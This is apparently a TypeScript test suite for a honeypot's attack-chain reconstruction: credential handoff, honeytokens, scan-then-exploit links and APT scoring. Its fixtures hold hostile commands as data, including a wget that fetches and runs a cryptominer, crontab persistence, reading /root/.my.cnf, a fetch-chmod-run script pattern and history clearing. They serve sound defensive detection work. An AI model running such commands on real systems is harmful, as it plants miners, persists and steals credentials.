// Attack reconstruction over hand-made events: techniques and intents with evidence, each link type,
// chains, the score's factors; and bad input (absurd fields, disorder, a flooding source) never breaks it.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import fc from 'fast-check';
import type { ApiaryEvent } from '../../../src/events/catalogue.js';
import type { IpEnrichment } from '../../../src/store/store.js';
import { emptyState, findRoot, foldAttackEvents, restoreState, serialiseState, type AttackState } from '../../../src/analysis/attacks/fold.js';
import { buildAttackRecord } from '../../../src/analysis/attacks/chains.js';
import { findWallets } from '../../../src/analysis/attacks/wallets.js';
import { normaliseCommand } from '../../../src/analysis/attacks/normalise.js';
import { printableStrings } from '../../../src/analysis/quarantine-strings.js';
import { makeEvent, type EventSpec } from '../../helpers/events.js';
import type { EventType } from '../../../src/events/catalogue.js';

let clock = Date.parse('2026-03-01T10:00:00Z');
function ev<T extends EventType>(s: Omit<EventSpec<T>, 'time'> & { time?: string }): ApiaryEvent {
  clock += 1000;
  return makeEvent({ ...s, time: s.time ?? new Date(clock).toISOString() } as EventSpec<T>);
}

function enrich(ips: Record<string, Partial<IpEnrichment>>): Map<string, IpEnrichment> {
  return new Map(
    Object.entries(ips).map(([ip, v]) => [ip, { ip, scope: 'external', ignored: false, country: null, asn: null, as_org: null, site: null, source: 'override', enriched_at: '', ...v } as IpEnrichment]),
  );
}

function login(src: string, session: string, user: string, password: string, success: boolean, port = 22, protocol = 'ssh'): ApiaryEvent {
  return ev({ type: 'auth.attempt', src, session, protocol, dst_port: port, payload: { method: 'password', username: user, password, success } });
}

function chainOf(st: AttackState, ip: string) {
  return buildAttackRecord(st, findRoot(st, ip));
}

test('story 1: brute force from three hosts, login with the found password from a fourth, miner and cron: one chain', () => {
  const st = emptyState();
  const list = ['123456', 'qwerty99', 'letmein7', 'Tr0ub4dor&3'];
  const events: ApiaryEvent[] = [];
  for (const src of ['198.51.100.1', '198.51.100.2', '203.0.113.9']) {
    list.forEach((pw, i) => events.push(login(src, `${src}-${i}`, 'root', pw, pw === 'Tr0ub4dor&3')));
  }
  events.push(login('192.0.2.77', 'd1', 'root', 'Tr0ub4dor&3', true));
  events.push(ev({ type: 'command.input', src: '192.0.2.77', session: 'd1', payload: { input: 'wget http://miner.example/xmrig -O /tmp/x' } }));
  events.push(ev({ type: 'command.input', src: '192.0.2.77', session: 'd1', payload: { input: '/tmp/x -o stratum+tcp://pool.example:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A' } }));
  events.push(ev({ type: 'command.input', src: '192.0.2.77', session: 'd1', payload: { input: '(crontab -l; echo "* * * * * /tmp/x") | crontab -' } }));
  foldAttackEvents(st, events, enrich({}));
  const rec = chainOf(st, '192.0.2.77')!;
  assert.deepEqual(rec.sources.map((s) => s.ip).sort(), ['192.0.2.77', '198.51.100.1', '198.51.100.2', '203.0.113.9']);
  const handoff = rec.links.filter((l) => l.type === 'credential_handoff');
  assert.equal(handoff.length, 1);
  assert.equal(handoff[0]!.to, '192.0.2.77');
  assert.equal(rec.links.filter((l) => l.type === 'shared_behaviour').length, 2);
  const ids = rec.techniques.map((t) => t.id);
  for (const t of ['T1110.001', 'T1078', 'T1059.004', 'T1105', 'T1053.003', 'T1496']) assert.ok(ids.includes(t), t);
  const intents = rec.intents.map((i) => i.name);
  assert.ok(intents.includes('mining') && intents.includes('persistence'), intents.join());
  assert.ok(rec.intents.find((i) => i.name === 'mining')!.evidence.some((e) => /monero wallet/.test(e.detail)));
  assert.ok(rec.factors.separated_infrastructure!.points > 0);
  // Every technique's evidence is one of the chain's events.
  const all = new Set(events.map((e) => e.id));
  for (const t of rec.techniques) for (const id of t.evidence) assert.ok(all.has(id));
});

test('honeytoken jumping: read in one session, used by another source, and again from the decoy table', () => {
  const st = emptyState();
  const planted = [
    makeEvent({ type: 'honeytoken.planted', time: '2026-03-01T09:00:00Z', src: '0.0.0.0', payload: { token_id: 'a'.repeat(16), kind: 'mysql', username: 'root', secret: 'Pepper1987#', locations: ['/root/.my.cnf'] } }),
    makeEvent({ type: 'honeytoken.planted', time: '2026-03-01T09:00:00Z', src: '0.0.0.0', protocol: 'mysql', payload: { token_id: 'b'.repeat(16), kind: 'ssh', username: 'j.smith', secret: 'Qx7pLm2v', locations: ['mysql:shop.admins'] } }),
  ];
  const e1 = [login('198.51.100.5', 'e', 'root', 'x9y8z7w6', true), ev({ type: 'command.input', src: '198.51.100.5', session: 'e', payload: { input: 'cat /root/.my.cnf' } })];
  const f = [
    login('203.0.113.20', 'f', 'root', 'Pepper1987#', true, 3306, 'mysql'),
    ev({ type: 'query', src: '203.0.113.20', session: 'f', protocol: 'mysql', dst_port: 3306, payload: { query: 'SELECT * FROM shop.admins' } }),
  ];
  const g = [login('192.0.2.30', 'g', 'j.smith', 'Qx7pLm2v', true)];
  // Out of order: the use arrives before the read in another chunk.
  foldAttackEvents(st, [...planted, ...g], enrich({}));
  foldAttackEvents(st, [...f, ...e1], enrich({}));
  const rec = chainOf(st, '192.0.2.30')!;
  assert.deepEqual(rec.sources.map((s) => s.ip).sort(), ['192.0.2.30', '198.51.100.5', '203.0.113.20']);
  assert.deepEqual(rec.links.map((l) => `${l.type} ${l.from}>${l.to}`).sort(), ['honeytoken 198.51.100.5>203.0.113.20', 'honeytoken 203.0.113.20>192.0.2.30']);
  assert.ok(rec.factors.honeytoken_use);
  assert.ok(rec.intents.some((i) => i.name === 'data_theft'));
  assert.ok(rec.techniques.some((t) => t.id === 'T1552.001'));
});

test('internal propagation, scan then exploit, shared infrastructure by HASSH, proxy intent', () => {
  const st = emptyState();
  const info = enrich({ '10.1.2.3': { scope: 'internal' }, '10.1.2.4': { scope: 'internal' } });
  const events = [
    ev({ type: 'scan.probe', src: '10.1.2.3', session: 's1', protocol: 'tcp', dst_port: 445, payload: { first_bytes_hex: '' } }),
    ev({ type: 'connection.open', src: '10.1.2.4', session: 's2', protocol: 'smb', dst_port: 445, payload: { transport: 'tcp' } }),
    ev({ type: 'exploit.attempt', src: '10.1.2.4', session: 's2', protocol: 'smb', dst_port: 445, payload: { name: 'ms08-067', cve: 'CVE-2008-4250' } }),
    ev({ type: 'shellcode.detected', src: '10.1.2.4', session: 's2', protocol: 'smb', dst_port: 445, payload: { urls: ['http://evil.example:8080/t.exe'], commands: [] } }),
  ];
  for (const [src, s] of [['198.51.100.40', 'h1'], ['203.0.113.41', 'h2']] as const) {
    events.push(ev({ type: 'client.version', src, session: s, payload: { version: 'SSH-2.0-Rare_1.0' } }));
    events.push(ev({ type: 'client.kex', src, session: s, payload: { hassh: 'c'.repeat(32), hassh_algorithms: '', kex_algs: [], key_algs: [], enc_cs: [], mac_cs: [], comp_cs: [] } }));
    events.push(login(src, s, 'root', 'hunter22x', true));
  }
  // A stock client shared by unrelated sources links nothing.
  for (const [src, s] of [['198.51.100.50', 'g1'], ['203.0.113.51', 'g2']] as const) {
    events.push(ev({ type: 'client.version', src, session: s, payload: { version: 'SSH-2.0-Go' } }));
    events.push(ev({ type: 'client.kex', src, session: s, payload: { hassh: 'd'.repeat(32), hassh_algorithms: '', kex_algs: [], key_algs: [], enc_cs: [], mac_cs: [], comp_cs: [] } }));
    events.push(ev({ type: 'tunnel.request', src, session: s, payload: { target_host: 'example.org', target_port: 443 } }));
  }
  events.push(ev({ type: 'tunnel.request', src: '203.0.113.41', session: 'h2', payload: { target_host: 'mail.example', target_port: 25 } }));
  foldAttackEvents(st, events, info);
  const smb = chainOf(st, '10.1.2.4')!;
  assert.deepEqual(smb.links.map((l) => `${l.type} ${l.from}>${l.to}`).sort(), ['internal_propagation 10.1.2.4>evil.example', 'scan_then_exploit 10.1.2.3>10.1.2.4']);
  assert.ok(smb.intents.some((i) => i.name === 'spreading'));
  assert.ok(smb.techniques.some((t) => t.id === 'T1210'));
  const ssh = chainOf(st, '203.0.113.41')!;
  assert.deepEqual(ssh.links.map((l) => l.type), ['shared_infrastructure']);
  assert.ok(ssh.intents.some((i) => i.name === 'proxy'));
  assert.ok(ssh.techniques.some((t) => t.id === 'T1090'));
  assert.deepEqual(chainOf(st, '203.0.113.51')!.links, []);
});

test('shared behaviour: the same script with other addresses and names; a lone scanner makes no chain', () => {
  const st = emptyState();
  const run = (src: string, ip: string, name: string) =>
    ['cd /tmp', `wget http://${ip}/${name}.sh`, `chmod +x ${name}.sh`, `./${name}.sh ${ip}`].map((input) => ev({ type: 'command.input', src, session: `b-${src}`, payload: { input } }));
  assert.equal(normaliseCommand('wget http://1.2.3.4/ab12cd34ef.sh'), normaliseCommand('wget http://5.6.7.8/ff00ff00aa.sh'));
  foldAttackEvents(st, [login('198.51.100.60', 'b-198.51.100.60', 'root', 'zzz', true), ...run('198.51.100.60', '1.2.3.4', 'a1b2c3d4e5'), login('203.0.113.61', 'b-203.0.113.61', 'root', 'zzz', true), ...run('203.0.113.61', '9.9.9.9', 'f0e1d2c3b4')], enrich({}));
  const rec = chainOf(st, '203.0.113.61')!;
  assert.ok(rec.links.some((l) => l.type === 'shared_behaviour'));
  foldAttackEvents(st, [ev({ type: 'scan.probe', src: '192.0.2.200', session: 'z', dst_port: 23, payload: { first_bytes_hex: '' } })], enrich({}));
  assert.equal(chainOf(st, '192.0.2.200'), undefined);
});

test('APT score: a source that comes back after weeks, clears its history and escalates scores its factors', () => {
  const st = emptyState();
  const at = (day: number, input: string) => makeEvent({ type: 'command.input', time: new Date(Date.parse('2026-05-01T12:00:00Z') + day * 86_400_000).toISOString(), src: '198.51.100.120', session: `d${day}`, payload: { input } });
  foldAttackEvents(st, [
    makeEvent({ type: 'auth.attempt', time: '2026-05-01T11:59:00Z', src: '198.51.100.120', session: 'd0', payload: { method: 'password', username: 'root', password: 'Quiet#Fox1', success: true } }),
    at(0, 'uname -a'), at(0, 'sudo -i'), at(21, 'history -c'), at(22, 'unset HISTFILE'),
  ], enrich({}));
  const rec = chainOf(st, '198.51.100.120')!;
  assert.equal(rec.factors.persistence?.points, 20, JSON.stringify(rec.factors));
  assert.equal(rec.factors.stealth?.points, 15);
  assert.equal(rec.factors.escalation_and_lateral_movement?.points, 5);
  assert.equal(rec.score, Object.values(rec.factors).reduce((n, f) => n + f.points, 0));
  assert.ok(rec.score > 0 && rec.score <= 100);
});

test('wallets: checksummed Bitcoin and Litecoin addresses only', () => {
  assert.deepEqual(findWallets('pay 1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa now').map((w) => w.coin), ['bitcoin']);
  assert.deepEqual(findWallets('LM2WMpR1Rp6j3Sa59cMXMs1SPzj9eXpGc1').map((w) => w.coin), ['litecoin']);
  assert.deepEqual(findWallets('1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNb'), []);
});

test('the strings of a downloaded file: its pool and wallet show the mining intent', () => {
  const st = emptyState();
  const bin = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0, 1, 2]), Buffer.from('\0stratum+tcp://ltc.example:3333\0'), Buffer.from([0xff, 0xfe]), Buffer.from('LM2WMpR1Rp6j3Sa59cMXMs1SPzj9eXpGc1\0ab\0')]);
  assert.equal(printableStrings(bin), 'stratum+tcp://ltc.example:3333\nLM2WMpR1Rp6j3Sa59cMXMs1SPzj9eXpGc1');
  const sha = 'e'.repeat(64);
  foldAttackEvents(st, [login('198.51.100.80', 'f', 'root', 'pw', true), ev({ type: 'file.download', src: '198.51.100.80', session: 'f', payload: { url: 'http://x.example/k', sha256: sha, outcome: 'stored' } })], enrich({}), {
    fileText: (h) => (h === sha ? printableStrings(bin) : undefined),
  });
  const mining = chainOf(st, '198.51.100.80')!.intents.find((i) => i.name === 'mining')!;
  assert.deepEqual(mining.evidence.map((e) => e.detail).filter((d) => !d.startsWith('miner')), ['pool stratum+tcp://ltc.example:3333', 'litecoin wallet LM2WMpR1Rp6j3Sa59cMXMs1SPzj9eXpGc1']);
});

test('the state survives a save and restore, and folding goes on from it', () => {
  const st = emptyState();
  foldAttackEvents(st, [login('198.51.100.70', 'r', 'root', 'a', false), login('198.51.100.70', 'r', 'root', 'b', false), login('198.51.100.70', 'r', 'root', 'c', false), login('198.51.100.70', 'r', 'root', 'FoundIt#77', true)], enrich({}));
  const back = restoreState(serialiseState(st))!;
  foldAttackEvents(back, [login('203.0.113.71', 'q', 'root', 'FoundIt#77', true)], enrich({}));
  assert.ok(chainOf(back, '203.0.113.71')!.links.some((l) => l.type === 'credential_handoff'));
  assert.equal(restoreState('{not json'), undefined);
});

const junk = fc.oneof(fc.string(), fc.integer(), fc.constant(null), fc.constant(undefined), fc.double(), fc.array(fc.string(), { maxLength: 3 }), fc.object({ maxDepth: 1 }));
const badEvent = fc.record(
  {
    id: fc.oneof(fc.string({ minLength: 1, maxLength: 30 }), junk),
    time: fc.oneof(fc.date({ min: new Date(-1e14), max: new Date(1e14), noInvalidDate: true }).map((d) => d.toISOString()), junk),
    type: fc.oneof(fc.constantFrom('auth.attempt', 'command.input', 'query', 'file.download', 'exploit.attempt', 'shellcode.detected', 'tunnel.request', 'honeytoken.planted', 'connection.close', 'client.kex', 'client.version', 'scan.probe', 'http.request', 'file.upload'), junk),
    src_ip: fc.oneof(fc.constantFrom('198.51.100.1', '198.51.100.2', '10.0.0.1', '::1', ''), fc.ipV4(), junk),
    session: fc.oneof(fc.constantFrom('a', 'b', 'c'), junk),
    sensor: junk,
    protocol: junk,
    dst_port: fc.oneof(fc.integer({ min: -5, max: 70000 }), junk),
    payload: fc.oneof(
      junk,
      fc.record({ username: fc.oneof(junk, fc.constantFrom('__proto__', 'constructor')), password: fc.oneof(junk, fc.constantFrom('__proto__', 'constructor', 'toString')), success: fc.oneof(fc.boolean(), junk), input: junk, query: junk, url: junk, urls: junk, secret: junk, locations: junk, hassh: junk, version: junk, path: junk, sha256: junk, name: junk, target_host: junk }, { requiredKeys: [] }),
    ),
  },
  { requiredKeys: [] },
);

test('property: events with missing, absurd or hostile fields, in any order and chunking, never throw', () => {
  fc.assert(
    fc.property(fc.array(badEvent, { maxLength: 40 }), fc.integer({ min: 1, max: 10 }), (events, chunk) => {
      const st = emptyState();
      const list = events as unknown as ApiaryEvent[];
      for (let i = 0; i < list.length; i += chunk) {
        for (const root of foldAttackEvents(st, list.slice(i, i + chunk), new Map())) buildAttackRecord(st, root);
      }
      restoreState(serialiseState(st));
    }),
    { numRuns: 300 },
  );
});

test('property: the chains do not depend on how the events are split or ordered', () => {
  const base = [
    ...['a', 'b', 'c', 'd'].map((pw, i) => login('198.51.100.90', `p${i}`, 'root', pw === 'd' ? 'Zebra!2345' : pw, pw === 'd')),
    login('203.0.113.91', 'p9', 'root', 'Zebra!2345', true),
    ev({ type: 'command.input', src: '203.0.113.91', session: 'p9', payload: { input: 'history -c' } }),
  ];
  fc.assert(
    fc.property(fc.shuffledSubarray(base, { minLength: base.length, maxLength: base.length }), fc.integer({ min: 1, max: base.length }), (events, chunk) => {
      const st = emptyState();
      // Chunks are folded in id order (as the runner reads them); each chunk in any order.
      const byId = [...events].sort((x, y) => (x.id < y.id ? -1 : 1));
      for (let i = 0; i < byId.length; i += chunk) foldAttackEvents(st, byId.slice(i, i + chunk).reverse(), new Map());
      const rec = chainOf(st, '203.0.113.91')!;
      assert.deepEqual(rec.sources.map((s) => s.ip).sort(), ['198.51.100.90', '203.0.113.91']);
      assert.ok(rec.techniques.some((t) => t.id === 'T1070.003'));
    }),
    { numRuns: 100 },
  );
});

test('hostile text: long repeated prefixes in commands, queries and paths fold in bounded time', () => {
  for (const p of ['rm ', 'cat ', 'select ', 'from ', 'history ', 'stratum+tcp://', 'http://', '1.2.3.4 ', 'L', '4']) {
    const text = p.repeat(Math.ceil(4096 / p.length));
    const st = emptyState();
    const start = performance.now();
    foldAttackEvents(st, [
      ev({ type: 'command.input', src: '198.51.100.33', session: 'h', payload: { input: text } }),
      ev({ type: 'query', src: '198.51.100.33', session: 'h', protocol: 'mysql', dst_port: 3306, payload: { query: text } }),
      ev({ type: 'http.request', src: '198.51.100.33', session: 'h', protocol: 'http', dst_port: 80, payload: { method: 'GET', path: text, headers: {}, body_size: 0, body: text } }),
    ], new Map());
    assert.ok(performance.now() - start < 500, JSON.stringify(p));
  }
});

test('a source with a million events: bounded state, linear time', () => {
  const st = emptyState();
  const t0 = Date.parse('2026-03-02T00:00:00Z');
  const start = performance.now();
  const chunk: ApiaryEvent[] = [];
  const proto = login('198.51.100.99', 'm', 'root', 'x', false);
  for (let i = 0; i < 1_000_000; i++) {
    chunk.push({ ...proto, id: `m${String(i).padStart(8, '0')}`, time: new Date(t0 + i).toISOString(), session: `m${i % 1000}`, payload: { method: 'password', username: 'root', password: `p${i % 5000}`, success: false } } as ApiaryEvent);
    if (chunk.length === 5000) {
      foldAttackEvents(st, chunk, new Map());
      chunk.length = 0;
    }
  }
  const ms = performance.now() - start;
  const s = st.sources.get('198.51.100.99')!;
  assert.equal(s.events, 1_000_000);
  assert.ok(s.steps.length <= 10 && st.sessions.size <= 1000, `${s.steps.length} steps, ${st.sessions.size} sessions`);
  assert.ok(serialiseState(st).join('').length < 2_000_000);
  process.stdout.write(`# one source, 1M events folded in ${ms.toFixed(0)} ms\n`);
});

test("a live session's recording is read for keystrokes once: at its close, not also at its 'closed' event", () => {
  const st = emptyState();
  const src = '198.51.100.77';
  const session = 'live-rec-1';
  const path = `/data/recordings/${session}.cast`;
  const reads: (string | undefined)[] = [];
  const keystrokes = (_s: string, p?: string): number[] => {
    reads.push(p);
    return [120, 300, 90];
  };
  const events = [
    ev({ type: 'connection.open', src, session, payload: { transport: 'tcp' } }),
    login(src, session, 'root', 'x', true),
    ev({ type: 'session.recording', src, session, payload: { state: 'open', path, format: 'asciicast' } }),
    ev({ type: 'command.input', src, session, payload: { input: 'uname -a', known: true } }),
    ev({ type: 'session.recording', src, session, payload: { state: 'closed', path, format: 'asciicast', size: 900, duration_ms: 5000 } }),
    ev({ type: 'connection.close', src, session, payload: { duration_ms: 5000, bytes_in: 10, bytes_out: 10, reason: 'client' } }),
  ];
  foldAttackEvents(st, events, enrich({ [src]: {} }), { keystrokes });
  assert.deepEqual(reads, [undefined], 'read once, by session, when the connection closed');
  // An imported recording ('stored', no live session) is read by its path.
  const imported = ev({ type: 'session.recording', src, session: 'imported-1', payload: { state: 'stored', path: '/x/imported-1.cast', format: 'asciicast', size: 10, duration_ms: 10 } });
  foldAttackEvents(st, [imported], enrich({ [src]: {} }), { keystrokes });
  assert.deepEqual(reads, [undefined, '/x/imported-1.cast']);
});
